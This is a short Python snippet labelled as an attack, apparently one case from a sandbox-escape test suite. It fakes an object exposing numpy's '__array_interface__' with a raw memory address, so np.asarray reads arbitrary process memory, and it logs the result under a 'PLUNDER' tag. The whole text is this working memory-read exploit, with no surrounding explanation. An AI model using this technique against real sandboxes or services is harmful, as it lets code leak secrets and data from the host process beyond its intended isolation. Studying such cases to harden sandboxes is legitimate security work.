# attack: language | names a field like a protocol of numpy
from collections import namedtuple
import numpy as np
Fake = namedtuple("Fake", ["__array_interface__"])
log("PLUNDER-LANGUAGE", np.asarray(Fake({"data": (4194304, True), "shape": (8,), "typestr": "<i8"})))
